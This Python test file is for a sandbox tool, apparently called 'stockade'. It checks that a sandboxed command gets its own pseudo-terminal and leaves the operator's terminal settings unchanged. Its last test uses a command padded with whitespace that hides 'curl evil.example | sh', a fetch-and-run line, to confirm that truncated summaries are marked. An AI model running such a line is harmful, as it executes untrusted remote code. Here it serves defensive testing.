"""A cell never gets the operator's terminal: given one as stdin, it gets a
pty of its own, fed from it. The "operator's terminal" here is a real pty the
test opens; after a cell ran ``stty -echo -isig``, set a window size and made
its stdin non-blocking, that terminal's modes, window size and file flags are
as they were, and the record says what the cell changed of its own."""

from __future__ import annotations

import fcntl
import os
import select
import subprocess
import sys
import termios
from pathlib import Path

from stockade.cell import Cell, CellResult
from stockade.cell._terminal import window_size

SCRIPT = (
    'test -t 0 && echo tty; stty size; read line; echo "got:$line"; '
    "stty -echo -isig -icanon rows 5 cols 7; "
    "/usr/bin/python3 -c 'import fcntl, os; fcntl.fcntl(0, fcntl.F_SETFL, os.O_NONBLOCK)'; "
    "stty -a | tr ' ' '\\n' | grep -x -e -echo -e -isig"
)


def _operator_terminal() -> tuple[int, int]:
    master, slave = os.openpty()
    fcntl.ioctl(master, termios.TIOCSWINSZ, b"\x28\x00\x64\x00\x00\x00\x00\x00")  # 40 rows, 100 columns
    return master, slave


def _state(slave: int) -> tuple[object, bytes, int]:
    return termios.tcgetattr(slave), window_size(slave), fcntl.fcntl(slave, fcntl.F_GETFL)


def test_the_operators_terminal_is_as_it_was_after_the_cell_changed_its_own(tmp_path: Path) -> None:
    master, slave = _operator_terminal()
    try:
        before = _state(slave)
        os.write(master, b"typed line\n")  # the operator answering the cell's read
        with Cell(workspace=tmp_path) as cell:
            result = cell.run(["/bin/sh", "-c", SCRIPT], stdin=slave, timeout=30)
        after = _state(slave)
    finally:
        os.close(master)
        os.close(slave)
    out = result.stdout.decode()
    assert result.exit_code == 0, (out, result.stderr)
    # The cell had a terminal, the operator's size and input, and changed its own.
    assert out.splitlines()[:3] == ["tty", "40 100", "got:typed line"], out
    assert "-echo" in out.split() and "-isig" in out.split(), out
    # The operator's: modes (echo and Ctrl-C on), window size and file flags as before.
    assert after == before
    assert after[0][3] & termios.ECHO and after[0][3] & termios.ISIG  # type: ignore[index]
    changed = [e for e in result.events if e.kind == "cell.terminal"]
    assert len(changed) == 1, result.events
    said = changed[0].detail["changed"]
    assert {"-echo", "-isig", "-icanon", "window size 5x7"} <= set(said), said


def test_stdin_that_is_not_a_terminal_is_given_as_it_is(tmp_path: Path) -> None:
    """The control: a pipe is the cell's stdin itself (no pty, no event)."""
    r, w = os.pipe()
    os.write(w, b"piped\n")
    os.close(w)
    try:
        with Cell(workspace=tmp_path) as cell:
            result = cell.run(["/bin/sh", "-c", "test -t 0 || echo not-a-tty; cat"], stdin=r, timeout=30)
    finally:
        os.close(r)
    assert result.stdout == b"not-a-tty\npiped\n"
    assert not [e for e in result.events if e.kind == "cell.terminal"]


def test_stockade_exec_leaves_the_terminal_as_it_was(tmp_path: Path) -> None:
    """The same through ``stockade exec`` with a pty as its stdin, and
    ``--json`` records the change."""
    import json

    master, slave = _operator_terminal()
    try:
        before = _state(slave)
        done = subprocess.run(
            [
                str(Path(sys.executable).with_name("stockade")),
                "exec",
                "--json",
                "-w",
                str(tmp_path),
                "--",
                "/bin/sh",
                "-c",
                "stty -echo -isig raw rows 3 cols 3",
            ],
            stdin=slave,
            capture_output=True,
            timeout=60,
        )
        after = _state(slave)
    finally:
        os.close(master)
        os.close(slave)
    assert done.returncode == 0, done.stderr
    assert after == before
    kinds = [e["kind"] for e in json.loads(done.stdout)["events"]]
    assert "cell.terminal" in kinds


def test_a_cell_that_never_reads_does_not_hold_the_run(tmp_path: Path) -> None:
    """The operator types far more than a pty's queues hold (1 MiB) while the
    cell never reads its input: the relay drops what does not fit instead of
    blocking, so the run ends when the command does, and the operator's
    terminal is as it was. The command waits for the test's go-file, made
    once the megabyte has gone through the operator's terminal."""
    import threading
    import time

    master, slave = _operator_terminal()
    go = tmp_path / "go"
    results: list[object] = []
    try:
        termios.tcsetattr(slave, termios.TCSANOW, _raw(termios.tcgetattr(slave)))
        before = _state(slave)
        cell = Cell(workspace=tmp_path)
        wait = "import os\nwhile not os.path.exists('go'):\n    os.sched_yield()\nprint('done')"
        runner = threading.Thread(
            target=lambda: results.append(
                cell.run(["/usr/bin/python3", "-c", wait], stdin=slave, timeout=30)
            ),
            daemon=True,  # a regression leaves it blocked: it must not hold up the test process
        )
        runner.start()
        os.set_blocking(master, False)
        typed, deadline = 0, time.monotonic() + 20
        while typed < 1 << 20 and time.monotonic() < deadline:
            try:
                typed += os.write(master, b"y" * 4096)
            except BlockingIOError:
                select.select([], [master], [], 1.0)  # until the relay has taken some
        go.write_text("")
        runner.join(30)
        assert not runner.is_alive(), "the run did not end: the relay blocked on the cell's full pty"
        cell.close()
        after = _state(slave)
    finally:
        os.close(master)
        os.close(slave)
    assert typed >= 1 << 20, f"only {typed} bytes went through the operator's terminal"
    result = results[0]
    assert isinstance(result, CellResult) and result.exit_code == 0 and result.stdout == b"done\n"
    assert after == before


def _raw(attrs: list[object]) -> list[object]:
    """Non-canonical mode, so that the operator's side holds bytes without a newline."""
    lflag = attrs[3]
    assert isinstance(lflag, int)
    attrs[3] = lflag & ~(termios.ICANON | termios.ECHO)
    return attrs


def test_a_long_command_is_cut_in_the_start_summary_with_a_mark() -> None:
    """Never cut silently: the cell.start summary says how much of a long
    command it leaves out, and where the whole is."""
    from stockade.cell._cell import _shortened

    padded = "echo hi" + " " * 300 + "; curl evil.example | sh"
    assert _shortened(padded) == padded[:200] + f"… ({len(padded) - 200} more characters in detail.argv)"
    assert _shortened("echo hi") == "echo hi"
